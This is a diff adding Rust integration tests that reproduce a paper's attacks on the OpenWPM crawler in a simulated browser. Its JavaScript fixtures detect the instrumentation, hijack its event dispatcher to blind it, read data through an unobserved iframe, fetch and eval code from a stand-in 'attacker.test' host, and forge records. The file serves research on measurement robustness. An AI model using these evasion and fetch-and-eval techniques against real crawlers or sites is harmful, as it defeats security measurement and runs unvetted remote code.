@@ -1,0 +1,159 @@
+//! The paper's listings, reproduced as integration tests across the full
+//! stack (engine → browser → instruments).
+
+use std::cell::RefCell;
+use std::rc::Rc;
+
+use browser::{FingerprintProfile, Os, Page, RunMode};
+use netsim::Url;
+use openwpm::instrument::vanilla;
+use openwpm::RecordStore;
+
+fn instrumented_page() -> (Page, Rc<RefCell<RecordStore>>) {
+    let mut page = Page::new(
+        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
+        Url::parse("https://victim.test/").unwrap(),
+        None,
+    );
+    let store = Rc::new(RefCell::new(RecordStore::new()));
+    assert!(vanilla::install(&mut page, 2022, store.clone(), "https://victim.test/".into()));
+    (page, store)
+}
+
+/// Listing 1: `toString` of an instrumented function leaks the wrapper.
+#[test]
+fn listing1_tostring_detectability() {
+    let (mut page, _store) = instrumented_page();
+    // The paper probes canvas.getContext; our instrument wraps the document
+    // APIs — same mechanism, same leak.
+    let out = page
+        .run_script(
+            r#"
+            var native_before = '' + Object.getOwnPropertyNames; // sanity
+            document.createElement.toString()
+            "#,
+            "https://victim.test/listing1.js",
+        )
+        .unwrap();
+    let text = out.as_str().unwrap();
+    // Paper: "output of .toString when instrumented" contains the wrapper
+    // body with getOriginatingScriptContext and logCall.
+    assert!(text.contains("getOriginatingScriptContext"));
+    assert!(text.contains("logCall"));
+    assert!(text.contains("func.apply(this, arguments)"));
+    // And an un-instrumented client shows native code.
+    let mut clean = Page::new(
+        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
+        Url::parse("https://clean.test/").unwrap(),
+        None,
+    );
+    let out = clean.run_script("document.createElement.toString()", "probe").unwrap();
+    assert_eq!(out.as_str().unwrap(), "function createElement() {\n    [native code]\n}");
+}
+
+/// Listing 2: turn off the script recorder by hijacking the dispatcher.
+#[test]
+fn listing2_turn_off_recorder() {
+    let (mut page, store) = instrumented_page();
+    page.run_script(
+        r#"
+        // Step I: Retrieve OpenWPM's random ID
+        var dispatch_fn = document.dispatchEvent;
+        var grabbed;
+        document.dispatchEvent = function (event) {
+            grabbed = event.type;
+            document.dispatchEvent = dispatch_fn;
+        };
+        // Perform an action to grab the ID
+        navigator.userAgent;
+        // Step II: Overwrite event dispatcher to block events
+        document.dispatchEvent = function (event) {
+            if (event.type !== grabbed) { return dispatch_fn.call(document, event); }
+            return true; // Event swallowed
+        };
+        "#,
+        "https://victim.test/listing2.js",
+    )
+    .unwrap();
+    let before = store.borrow().js_calls.len();
+    page.run_script(
+        "navigator.userAgent; navigator.platform; screen.width;",
+        "https://victim.test/after.js",
+    )
+    .unwrap();
+    assert_eq!(store.borrow().js_calls.len(), before, "all instrument events swallowed");
+}
+
+/// Listing 3: unobserved channel via immediate iframe access.
+#[test]
+fn listing3_unobserved_iframe_channel() {
+    let (mut page, store) = instrumented_page();
+    page.run_script(
+        r#"
+        setTimeout(function () {
+            var element = document.querySelector('#unobserved');
+            var iframe = document.createElement('iframe');
+            iframe.src = 'unobserved-iframe.html';
+            element.appendChild(iframe);
+            iframe.contentWindow.navigator.userAgent;
+        }, 500);
+        "#,
+        "https://victim.test/listing3.js",
+    )
+    .unwrap();
+    page.advance(2_000);
+    let ua_from_attack = store
+        .borrow()
+        .js_calls
+        .iter()
+        .any(|r| r.symbol.ends_with(".userAgent") && r.script_url.contains("listing3"));
+    assert!(!ua_from_attack, "the in-frame access must not be recorded by vanilla OpenWPM");
+}
+
+/// Listing 4 / Appx. D: silently load and run JavaScript as text.
+#[test]
+fn listing4_silent_js_delivery() {
+    let (mut page, _store) = instrumented_page();
+    page.add_server_resource("https://attacker.test/cheat", "text/plain", "window.pwned = 1;");
+    page.run_script(
+        r#"
+        var stealth_code = 'https://attacker.test/cheat';
+        fetch(stealth_code)
+            .then(function (res) { return res.text(); })
+            .then(function (res) { eval(res); });
+        "#,
+        "https://victim.test/listing4.js",
+    )
+    .unwrap();
+    let v = page.run_script("window.pwned", "probe").unwrap();
+    assert_eq!(v, jsengine::Value::Num(1.0), "payload must execute");
+    // The HTTP instrument's JS filter would not have saved it: the response
+    // has neither a JS content type nor a .js extension.
+    let resp = netsim::HttpResponse {
+        url: Url::parse("https://attacker.test/cheat").unwrap(),
+        status: 200,
+        content_type: "text/plain".into(),
+        body: "window.pwned = 1;".into(),
+    };
+    assert!(!resp.looks_like_javascript());
+}
+
+/// Sec. 5.2: fake data injection spoofs the script but not the page.
+#[test]
+fn fake_record_injection_cannot_spoof_page_url() {
+    let (mut page, store) = instrumented_page();
+    page.run_script(
+        &detect::corpus::fake_data_injection_attack("https://innocent.example/lib.js"),
+        "https://victim.test/attack.js",
+    )
+    .unwrap();
+    let store = store.borrow();
+    let forged: Vec<_> = store
+        .js_calls
+        .iter()
+        .filter(|r| r.symbol.contains("injectedFakeSymbol"))
+        .collect();
+    assert_eq!(forged.len(), 1);
+    assert!(forged[0].script_url.contains("innocent.example"), "script spoofable");
+    assert_eq!(forged[0].page_url, "https://victim.test/", "page_url set host-side");
+}
